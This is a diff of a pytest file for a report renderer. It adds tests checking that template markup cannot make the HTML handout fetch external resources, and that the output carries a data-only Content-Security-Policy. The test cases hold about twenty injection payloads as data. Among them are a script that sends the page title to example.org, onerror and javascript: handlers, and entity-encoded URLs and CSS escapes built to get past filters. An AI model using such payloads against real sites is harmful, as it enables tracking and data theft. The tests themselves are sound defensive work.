@@ -7,7 +7,7 @@ import shutil
 import pytest
 
 from modelh import load_canvas
-from modelh.report import ReportError, ReportOptions, render_html, render_pdf
+from modelh.report import FetchRefusedError, ReportError, ReportOptions, render_html, render_pdf
 
 from .conftest import ROOT
 
@@ -91,3 +91,119 @@ def test_a_warning_about_the_logo_does_not_quote_the_whole_file():
     uri = "data:image/svg+xml;base64," + "QUJD" * 500
     message = _readable_warning(f"Failed to render SVG image {uri}")
     assert message == "Failed to render SVG image (the embedded image/svg+xml)"
+
+
+# ---------------------------------------------------------------------------
+# The HTML handout is safe by construction: an allowlist over the final HTML
+
+
+def _cover_template(tmp_path, markup: str):
+    templates = tmp_path / "templates"
+    (templates / "sections").mkdir(parents=True, exist_ok=True)
+    (templates / "sections" / "cover.html.j2").write_text(f"{markup}<h1>Cover</h1>")
+    return ReportOptions(template_dir=templates, sections=("cover",))
+
+
+@pytest.mark.parametrize(
+    ("markup", "named"),
+    [
+        ("<script>fetch('https://example.org/t?' + document.title)</script>", "<script>"),
+        ('<meta http-equiv="refresh" content="0;url=https://example.org/">', "http-equiv"),
+        ('<img src="http&#58;//example.org/t.png" alt="">', "http://example.org/t.png"),
+        ('<img src="&#x68;ttps://example.org/t.png" alt="">', "https://example.org/t.png"),
+        ('<div style="background: u\\72 l(https://example.org/bg.png)"></div>', "https://"),
+        ("<style>.x { background: u\\72 l(https://example.org/bg.png) }</style>", "https://"),
+        (
+            '<link rel="stylesheet" href="data:text/css,@import url(https://example.org/a.css);">',
+            "<link>",
+        ),
+        ("<style>@import url('data:text/css,p{color:red}');</style>", "@import"),
+        (
+            '<img alt="" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" '
+            'srcset="data:image/gif;base64,R0lGODlhAQABAAAAACw= 1x, '
+            'https://example.org/2x.png 2x">',
+            "srcset",
+        ),
+        (
+            "<div style=\"background-image: image-set('https://example.org/a.png' 1x)\"></div>",
+            "image-set()",
+        ),
+        ('<iframe srcdoc="&lt;img src=https://example.org/t.png&gt;"></iframe>', "<iframe>"),
+        ('<p srcdoc="x">text</p>', "srcdoc"),
+        (
+            '<img alt="" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onerror="fetch(1)">',
+            "onerror",
+        ),
+        ('<a href="javascript:fetch(1)">x</a>', "javascript:"),
+        ('<svg><image href="https://example.org/t.png"/></svg>', "https://"),
+        (
+            '<svg><rect fill="url(https://example.org/p.svg#p)" width="1" height="1"/></svg>',
+            "https",
+        ),
+        ("<svg><style>rect { fill: red }</style></svg>", "<style> element inside <svg>"),
+        ("<style>p { color: red }</style><img src=x.png alt=''>", "x.png"),
+        ('<base href="https://example.org/">', "<base>"),
+        ("<object data='https://example.org/x.swf'></object>", "<object>"),
+    ],
+)
+def test_a_template_cannot_make_the_handout_fetch_anything(canvas, tmp_path, markup, named):
+    options = _cover_template(tmp_path, markup)
+    with pytest.raises(FetchRefusedError) as refused:
+        render_html(canvas, options)
+    assert named in refused.value.message
+
+
+def test_the_handout_carries_a_policy_that_allows_only_data_urls(canvas):
+    from html.parser import HTMLParser
+
+    found = []
+
+    class Policy(HTMLParser):
+        def handle_starttag(self, tag, attrs):
+            attrs = dict(attrs)
+            if tag == "meta" and attrs.get("http-equiv") == "Content-Security-Policy":
+                found.append(attrs["content"])
+
+    html = render_html(canvas, ReportOptions(sections=("cover",)))
+    Policy().feed(html)
+    (policy,) = found
+    directives = dict(d.strip().split(" ", 1) for d in policy.split(";"))
+    assert directives["default-src"] == "'none'"  # no script, no connection, no frame
+    assert directives["img-src"] == "data:" and directives["font-src"] == "data:"
+    assert "http" not in policy and "script-src" not in policy
+    assert html.index("Content-Security-Policy") < html.index("<style>")
+
+
+def test_links_and_data_urls_and_the_shipped_markup_are_kept(canvas, tmp_path):
+    markup = (
+        '<a href="https://example.org/firm">Our firm</a> <a href="#section-cover">top</a>'
+        '<svg viewBox="0 0 2 2"><defs><linearGradient id="g"><stop offset="0"/></linearGradient>'
+        '</defs><rect fill="url(#g)" width="2" height="2"/></svg><!-- a comment -->'
+    )
+    html = render_html(canvas, _cover_template(tmp_path, markup))
+    assert '<a href="https://example.org/firm">Our firm</a>' in html
+    assert '<linearGradient id="g">' in html and 'fill="url(#g)"' in html
+    assert "a comment" not in html
+
+
+def test_canvas_text_that_looks_like_markup_or_urls_is_just_text(canvas):
+    import dataclasses
+
+    title = "See url(https://example.org/x) and <img src=https://example.org/t.png>"
+    info = dataclasses.replace(canvas.canvas, title=title, organization="@import 'x'; srcset=")
+    html = render_html(dataclasses.replace(canvas, canvas=info), ReportOptions())
+    assert "See url(https://example.org/x) and &lt;img src=https://example.org/t.png&gt;" in html
+
+
+def test_a_very_long_title_renders_in_linear_time(canvas):
+    """A 60 KB title once took minutes (a quadratic pattern); it is text like any other."""
+    import dataclasses
+    import time
+
+    title = "url(https:" * 6_000  # 60 KB of what the old guard searched for
+    info = dataclasses.replace(canvas.canvas, title=title)
+    start = time.perf_counter()
+    html = render_html(dataclasses.replace(canvas, canvas=info), ReportOptions())
+    elapsed = time.perf_counter() - start
+    assert title in html
+    assert elapsed < 30  # a hang guard: about 1 s here; the quadratic guard took minutes
